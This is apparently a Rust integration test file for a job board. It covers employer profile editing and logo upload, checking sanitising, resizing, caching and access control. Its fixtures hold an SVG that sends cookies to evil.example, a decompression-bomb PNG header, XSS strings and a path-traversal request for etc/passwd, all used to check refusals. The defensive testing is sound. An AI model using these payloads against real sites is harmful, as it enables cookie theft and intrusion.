//! An employer's own profile and logo: edited by its users on the
//! dashboard and through the API with the same rules and sanitising as an
//! ad, the logo checked and resized on upload and served for a year under
//! an address that changes with it, shown on lists, ads, the employer page,
//! the embed and in JSON-LD. Garbage files are refused naming `logo`, and
//! leave the logo as it was.

use std::io::Cursor;

use image::{DynamicImage, ImageFormat, RgbaImage};
use platsen_tests::{ADMIN_TOKEN, Reply, TestApp};
use reqwest::{Method, StatusCode};
use serde_json::json;

use crate::konto::{PASSWORD, Visitor};

platsen_tests::contract!(
    an_employer_keeps_its_profile_and_logo_through_the_api,
    an_employer_user_edits_the_profile_and_uploads_a_logo_on_the_dashboard,
);

/// A PNG of `w` × `h`.
pub(crate) fn png(w: u32, h: u32) -> Vec<u8> {
    let img = RgbaImage::from_fn(w, h, |x, y| image::Rgba([(x % 251) as u8, (y % 241) as u8, 120, 255]));
    let mut out = Vec::new();
    DynamicImage::ImageRgba8(img).write_to(&mut Cursor::new(&mut out), ImageFormat::Png).unwrap();
    out
}

/// A small PNG whose header (with a correct checksum) claims `side` ×
/// `side` pixels: a decompression bomb's first bytes.
pub(crate) fn png_claiming(side: u32) -> Vec<u8> {
    let mut bytes = png(20, 20);
    let ihdr = bytes.windows(4).position(|w| w == b"IHDR").unwrap();
    bytes[ihdr + 4..ihdr + 8].copy_from_slice(&side.to_be_bytes());
    bytes[ihdr + 8..ihdr + 12].copy_from_slice(&side.to_be_bytes());
    let crc = crc32(&bytes[ihdr..ihdr + 17]);
    bytes[ihdr + 17..ihdr + 21].copy_from_slice(&crc.to_be_bytes());
    bytes
}

/// PNG's CRC-32 (ISO 3309), bit by bit.
fn crc32(data: &[u8]) -> u32 {
    let mut crc = 0xffff_ffffu32;
    for &b in data {
        crc ^= u32::from(b);
        for _ in 0..8 {
            crc = if crc & 1 == 1 { (crc >> 1) ^ 0xedb8_8320 } else { crc >> 1 };
        }
    }
    !crc
}

pub(crate) const SVG_WITH_SCRIPT: &str = r#"<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" width="200" height="100" onload="alert(document.cookie)">
  <script>fetch('https://evil.example/?c=' + document.cookie)</script>
  <rect width="200" height="100" fill="red"/>
</svg>"#;

async fn put_logo(app: &TestApp, path: &str, token: &str, content_type: &str, bytes: Vec<u8>) -> Reply {
    let req = app.client.put(app.url(path)).bearer_auth(token).header("content-type", content_type).body(bytes);
    Reply::from(req.send().await.unwrap()).await
}

fn size_of_png(bytes: &[u8]) -> (u32, u32) {
    let img = image::load_from_memory_with_format(bytes, ImageFormat::Png).expect("a PNG");
    (img.width(), img.height())
}

async fn an_employer_keeps_its_profile_and_logo_through_the_api(app: &TestApp) {
    let (employer, key) = app.employer_with_key("Nacka kommun").await;
    let (other, other_key) = app.employer_with_key("Sjöbo kommun").await;
    let id = app.publish_job(&key, app.job("Upphandlare till Nacka")).await;

    // The profile: Markdown in, sanitized HTML out, the source kept.
    let written = "**Vi** köper klokt. <script>alert(1)</script>\n\n- hållbart\n- lokalt";
    let r = app
        .call(
            Method::PATCH,
            "/api/v1/account",
            Some(&key),
            Some(json!({ "description": written, "website": "https://www.nacka.se", "sector": "kommun" })),
        )
        .await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.text);
    let html = r.body["description"].as_str().unwrap();
    assert!(html.contains("<strong>Vi</strong>") && html.contains("<li>hållbart</li>"), "{html}");
    assert!(!html.contains("<script") && !html.contains("alert"), "{html}");
    assert_eq!(r.body["description_source"], written);
    assert_eq!(
        (r.body["website"].as_str(), r.body["sector"].as_str()),
        (Some("https://www.nacka.se/"), Some("kommun"))
    );
    let page = app.get("/arbetsgivare/nacka-kommun").await;
    assert!(page.text.contains("<strong>Vi</strong> köper klokt.") && !page.text.contains("alert(1)"), "{}", page.text);
    // Null clears; what is left out stays.
    let r = app.call(Method::PATCH, "/api/v1/account", Some(&key), Some(json!({ "website": null }))).await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.text);
    assert!(r.body["website"].is_null() && r.body["sector"] == "kommun", "{}", r.text);
    // Garbage, and what is the operator's.
    for (body, status, field) in [
        (json!({ "website": "javascript:alert(1)" }), 422, "website"),
        (json!({ "sector": "rymden" }), 422, "sector"),
        (json!({ "description": "x".repeat(10_001) }), 422, "description"),
        (json!({ "description": 42 }), 400, "description"),
        (json!({ "name": "Nacka stad" }), 400, "name"),
        (json!({ "requires_review": false }), 400, "requires_review"),
    ] {
        let r = app.call(Method::PATCH, "/api/v1/account", Some(&key), Some(body.clone())).await;
        r.assert_problem(status, field);
    }
    let r = app.call(Method::PATCH, "/api/v1/account", Some(ADMIN_TOKEN), Some(json!({ "website": null }))).await;
    assert_eq!(r.status, StatusCode::FORBIDDEN, "the operator changes employers at /employers/{{id}}");
    let r = app.call(Method::GET, "/api/v1/account", Some(&key), None).await;
    assert_eq!(r.body["description_source"], written, "nothing of the refused patches was stored");

    // A logo: scaled to fit 400 × 200 and served for a year.
    let r = put_logo(app, "/api/v1/account/logo", &key, "image/png", png(1200, 300)).await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.text);
    let path = r.body["logo"]["path"].as_str().unwrap().to_owned();
    assert!(path.starts_with("/logotyp/") && path.ends_with(".png"), "{path}");
    assert_eq!((r.body["logo"]["width"].as_i64(), r.body["logo"]["height"].as_i64()), (Some(400), Some(100)));
    let served = app.client.get(app.url(&path)).send().await.unwrap();
    assert_eq!(served.status(), StatusCode::OK);
    assert_eq!(served.headers()["content-type"], "image/png");
    assert_eq!(served.headers()["cache-control"], "public, max-age=31536000, immutable");
    assert_eq!(size_of_png(&served.bytes().await.unwrap()), (400, 100));
    // Shown on the list, the ad, the employer page, the embed and in JSON-LD.
    let img = format!(r#"<img class="logo" src="{path}" width="400" height="100""#);
    assert!(app.get("/jobb").await.text.contains(&img), "on the list");
    let ad = app.call(Method::GET, &format!("/api/v1/jobs/{id}"), None, None).await;
    let ad_page = app.get(&format!("/jobb/{}", ad.body["slug"].as_str().unwrap())).await;
    assert!(ad_page.text.contains(&img), "on the ad: {}", ad_page.text);
    assert!(ad_page.text.contains(&format!(r#""logo":"{}""#, app.url(&path))), "in the JSON-LD");
    assert!(app.get("/arbetsgivare/nacka-kommun").await.text.contains(&img), "on the employer page");
    let embed = app.get("/embed/v1/jobs.json?employer=nacka-kommun").await;
    assert_eq!(embed.body["employer"]["logo"], app.url(&path), "{}", embed.text);

    // Garbage is refused, naming the field, and the logo stays as it was.
    let mut huge = png(64, 64);
    huge.resize(50 * 1024 * 1024, 0);
    for (content_type, bytes, status, code) in [
        ("image/png", b"not an image, just text".to_vec(), 422, "unsupported_format"),
        ("image/svg+xml", SVG_WITH_SCRIPT.as_bytes().to_vec(), 422, "unsupported_format"),
        ("image/png", png_claiming(20_000), 422, "too_many_pixels"),
        ("image/png", png(8, 8), 422, "too_few_pixels"),
        ("image/jpeg", vec![0xff, 0xd8, 0xff, 0xe0, 0, 0x10, b'J', b'F'], 422, "unreadable_image"),
        ("image/png", Vec::new(), 422, "required"),
        ("image/png", huge, 413, "too_large"),
    ] {
        let r = put_logo(app, "/api/v1/account/logo", &key, content_type, bytes).await;
        r.assert_problem(status, "logo");
        assert_eq!(r.body["errors"][0]["code"], code, "{}", r.text);
    }
    let r = app.call(Method::GET, "/api/v1/account", Some(&key), None).await;
    assert_eq!(r.body["logo"]["path"], path.as_str(), "the logo is as it was");

    // Another employer reaches none of it; the operator reaches any.
    let r = put_logo(app, &format!("/api/v1/employers/{employer}/logo"), &other_key, "image/png", png(100, 50)).await;
    assert_eq!(r.status, StatusCode::FORBIDDEN, "{}", r.text);
    let r = put_logo(app, &format!("/api/v1/employers/{other}/logo"), ADMIN_TOKEN, "image/png", png(100, 50)).await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.text);
    assert_eq!(r.body["logo"]["width"], 100, "a small logo keeps its size");
    // A new logo, a new address; the old one is gone.
    let r = put_logo(app, "/api/v1/account/logo", &key, "image/png", png(300, 300)).await;
    let new_path = r.body["logo"]["path"].as_str().unwrap().to_owned();
    assert_ne!(new_path, path);
    assert_eq!(app.get(&path).await.status, StatusCode::NOT_FOUND);
    assert!(app.get("/jobb").await.text.contains(&new_path), "the list shows the new one at once");
    let r = app.call(Method::DELETE, "/api/v1/account/logo", Some(&key), None).await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.text);
    assert!(r.body["logo"].is_null());
    assert_eq!(app.get(&new_path).await.status, StatusCode::NOT_FOUND);
    for bad in [
        "/logotyp/x.png",
        "/logotyp/0123456789abcdef.svg",
        "/logotyp/..%2F..%2Fetc%2Fpasswd",
        "/logotyp/0123456789abcdef.png",
    ] {
        assert_eq!(app.get(bad).await.status, StatusCode::NOT_FOUND, "{bad}");
    }
}

async fn an_employer_user_edits_the_profile_and_uploads_a_logo_on_the_dashboard(app: &TestApp) {
    let employer = app.create_employer("Nacka kommun").await;
    app.create_user(employer, "anna@nacka.se", PASSWORD).await;
    let other = app.create_employer("Sjöbo kommun").await;
    app.create_user(other, "olle@sjobo.se", PASSWORD).await;
    let mut anna = Visitor::new(app);
    assert_eq!(anna.get("/konto/profil").await.location(), "/konto", "signed out: the sign-in form");
    anna.sign_in("anna@nacka.se", PASSWORD).await;
    assert!(anna.get("/konto").await.body.contains(r#"<a href="/konto/profil">Profil och logotyp</a>"#));
    let page = anna.get("/konto/profil").await;
    assert_eq!(page.status, 200, "{}", page.body);
    assert_eq!(page.headers["cache-control"], "no-store");
    let csrf = page.csrf();

    // Garbage is named next to its field and what was typed stays.
    let r = anna
        .post(
            "/konto/profil",
            &[("csrf", &csrf), ("description", "Vi **köper**."), ("website", "inte en adress"), ("sector", "kommun")],
        )
        .await;
    assert_eq!(r.status, 422, "{}", r.body);
    assert!(r.field_error("website").is_some(), "{}", r.body);
    assert!(r.body.contains(r#"value="inte en adress""#) && r.body.contains("Vi **köper**."));
    let r = anna.post("/konto/profil", &[("csrf", &csrf), ("sector", "rymden")]).await;
    assert_eq!(r.status, 422);
    assert!(r.field_error("sector").is_some(), "{}", r.body);
    assert_eq!(anna.post("/konto/profil", &[("description", "utan token")]).await.status, 403);

    let r = anna
        .post(
            "/konto/profil",
            &[
                ("csrf", &csrf),
                ("description", "Vi **köper** <img src=x onerror=alert(1)>klokt."),
                ("website", "https://www.nacka.se"),
                ("sector", "kommun"),
            ],
        )
        .await;
    assert_eq!(r.location(), "/konto/profil?klart=sparad", "{}", r.body);
    let page = anna.get("/konto/profil?klart=sparad").await;
    assert!(page.body.contains("Profilen är sparad."));
    assert!(
        page.body.contains("Vi **köper**") && !page.body.contains("<img src=x"),
        "the source, escaped: {}",
        page.body
    );
    let public = app.get("/arbetsgivare/nacka-kommun").await;
    assert!(public.text.contains("Vi <strong>köper</strong>") && !public.text.contains("onerror"), "{}", public.text);

    // A logo, then garbage files: each refused with the reason, the logo kept.
    let r = anna.post_file("/konto/profil/logotyp", &[("csrf", &csrf)], ("logo", "logo.png", &png(800, 800))).await;
    assert_eq!(r.location(), "/konto/profil?klart=logotyp", "{}", r.body);
    let page = anna.get("/konto/profil").await;
    assert!(page.body.contains(r#"width="200" height="200" alt="Nuvarande logotyp""#), "{}", page.body);
    let mut huge = png(64, 64);
    huge.resize(50 * 1024 * 1024, 0);
    for (name, bytes, status, says) in [
        ("logo.png", b"just text".to_vec(), 422, "inte en PNG-, JPEG- eller WebP-bild"),
        ("logo.svg", SVG_WITH_SCRIPT.as_bytes().to_vec(), 422, "SVG-bilder tas inte emot"),
        ("huge.png", png_claiming(20_000), 422, "högst 6000 × 6000 bildpunkter"),
        ("big.png", huge, 413, "Filen får vara högst 5 MB."),
    ] {
        let r = anna.post_file("/konto/profil/logotyp", &[("csrf", &csrf)], ("logo", name, &bytes)).await;
        assert_eq!(r.status, status, "{name}: {}", r.body);
        assert!(r.field_error("logo").is_some_and(|e| e.contains(says)), "{name}: {}", r.body);
        assert!(r.body.contains(r#"aria-invalid="true""#), "{name}");
    }
    assert!(anna.get("/konto/profil").await.body.contains(r#"width="200" height="200""#), "the logo is as it was");
    let r = anna
        .post_file("/konto/profil/logotyp", &[("csrf", "0".repeat(64).as_str())], ("logo", "l.png", &png(50, 50)))
        .await;
    assert_eq!(r.status, 403, "no upload without the token");
    let r = anna.post("/konto/profil/logotyp/ta-bort", &[("csrf", &csrf)]).await;
    assert_eq!(r.location(), "/konto/profil?klart=utan-logotyp");
    assert!(anna.get("/konto/profil").await.body.contains("Ingen logotyp ännu."));

    // Another employer's user reaches neither page nor upload.
    let mut olle = Visitor::new(app);
    olle.sign_in("olle@sjobo.se", PASSWORD).await;
    let theirs = format!("/konto/arbetsgivare/{employer}/profil");
    assert_eq!(olle.get(&theirs).await.status, 404);
    let olle_csrf = olle.get("/konto/profil").await.csrf();
    let r =
        olle.post_file(&format!("{theirs}/logotyp"), &[("csrf", &olle_csrf)], ("logo", "l.png", &png(50, 50))).await;
    assert_eq!(r.status, 404);
    let r = olle.post(&theirs, &[("csrf", &olle_csrf), ("website", "https://evil.example")]).await;
    assert_eq!(r.status, 404);
    assert!(!app.get("/arbetsgivare/nacka-kommun").await.text.contains("evil.example"));
}
